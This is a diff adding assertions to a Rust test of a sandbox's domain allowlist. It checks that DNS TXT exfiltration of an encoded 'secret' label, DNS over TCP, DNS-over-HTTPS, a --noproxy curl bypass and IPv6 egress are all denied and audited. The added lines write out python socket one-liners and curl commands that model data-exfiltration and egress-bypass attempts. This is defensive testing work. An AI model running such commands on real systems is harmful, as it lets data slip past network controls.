@@ -293,6 +293,49 @@ async fn allowlist_by_name_denies_everything_else_and_audits_it() {
     );
     let (code, out) = run(&c, &rt, &u).await;
     assert!(code != 0 && !out.contains("echo"), "UDP got through: {out}");
+    // DNS TXT exfiltration: a denied name is NXDOMAIN (never asked
+    // upstream), and even an allowed name gets no TXT data back.
+    let txt = |qname: &str| {
+        let labels: String = qname
+            .split('.')
+            .map(|l| format!("\\x{:02x}{l}", l.len()))
+            .collect();
+        format!(
+            "python3 -c \"import socket;s=socket.socket(2,2);s.settimeout(3);q=b'\\x00\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00{labels}\\x00\\x00\\x10\\x00\\x01';s.sendto(q,('{}',53));r=s.recv(512);print('rcode',r[3]&15,'answers',r[7])\"",
+            h.ip(2)
+        )
+    };
+    let (_, out) = run(&c, &rt, &txt("c2VjcmV0.other.test")).await;
+    assert!(out.contains("rcode 3 answers 0"), "{out}");
+    let (_, out) = run(&c, &rt, &txt("allowed.test")).await;
+    assert!(out.contains("rcode 0 answers 0"), "{out}");
+    // DNS over TCP to another resolver, and DoH to a test address: both are
+    // TCP to an address the policy does not name.
+    let (code, _) = run(
+        &c,
+        &rt,
+        &format!("python3 -c \"import socket;s=socket.create_connection(('{}',53),3);s.sendall(b'\\x00\\x1d');print(s.recv(10))\"", h.ip(2)),
+    )
+    .await;
+    assert_ne!(code, 0, "DNS over TCP got an answer");
+    let (code, out) = run(
+        &c,
+        &rt,
+        &format!("curl -sk -m 5 https://{}/dns-query", h.ip(3)),
+    )
+    .await;
+    assert_ne!(code, 0, "DoH: {out}");
+    // --noproxy changes nothing (there is no proxy to bypass); IPv6 has no
+    // route at all.
+    let (_, out) = run(
+        &c,
+        &rt,
+        &format!("curl -s -m 5 --noproxy '*' -w ' %{{http_code}}' --resolve other.test:80:{} http://other.test/", h.ip(3)),
+    )
+    .await;
+    assert!(out.ends_with(" 403"), "{out}");
+    let (code, _) = run(&c, &rt, "curl -s -m 3 -6 http://[2001:db8::1]/").await;
+    assert_ne!(code, 0);
     // QUIC is UDP 443: dropped the same way.
     let quic = format!(
         "python3 -c \"import socket;s=socket.socket(2,2);s.settimeout(1);s.sendto(b'quic',('{}',443));print(s.recv(64))\"",
@@ -344,6 +387,10 @@ async fn allowlist_by_name_denies_everything_else_and_audits_it() {
     assert!(
         audited(&list, "http_request", "deny", "other.test"),
         "{list:?}"
+    );
+    assert!(
+        audited(&list, "tcp_connection", "deny", &format!("{}:53", h.ip(2))),
+        "DNS over TCP not audited: {list:?}"
     );
     assert!(
         audited(&list, "tcp_connection", "deny", "169.254.169.254"),
